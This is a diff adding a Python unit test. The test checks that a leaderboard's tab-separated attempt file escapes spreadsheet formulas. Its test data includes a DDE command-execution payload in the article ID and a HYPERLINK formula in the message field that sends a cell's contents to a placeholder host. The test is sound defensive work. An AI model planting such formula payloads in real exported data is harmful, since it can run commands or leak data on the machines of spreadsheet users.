@@ -1,0 +1,26 @@
+"""The table of attempts, as a spreadsheet reads it."""
+
+from metaserver.leaderboards.result_files import ATTEMPT_COLUMNS, attempt_line
+from metaserver.model.lanes import StoredAttempt
+from metaserver.model.records import ArticleId, Attempt, Phases, ServerName
+from metaserver.model.states import Outcome
+
+
+def test_no_cell_of_an_attempt_is_a_formula() -> None:
+    phases = Phases(queue=0.0, total=1.5)
+    attempt = Attempt(
+        server=ServerName("blue-1"),
+        article=ArticleId("-1+cmd|' /C calc'!A0"),
+        number=2,
+        started_at=0.0,
+        outcome=Outcome.FAULT,
+        message='=HYPERLINK("http://x/?"&A1)\t=1\n=2',
+        phases=phases,
+    )
+    line = attempt_line(attempt.server, StoredAttempt(position=0, attempt=attempt, final=True))
+    cells = dict(zip(ATTEMPT_COLUMNS, line.rstrip("\n").split("\t"), strict=True))
+    assert cells["article"] == "'-1+cmd|' /C calc'!A0"
+    assert cells["message"] == '\'=HYPERLINK("http://x/?"&A1) =1 =2'
+    assert (cells["started_at"], cells["total"], cells["attempt"]) == (
+        "1970-01-01T00:00:00.000+00:00", "1.500000", "2",
+    )  # fmt: skip
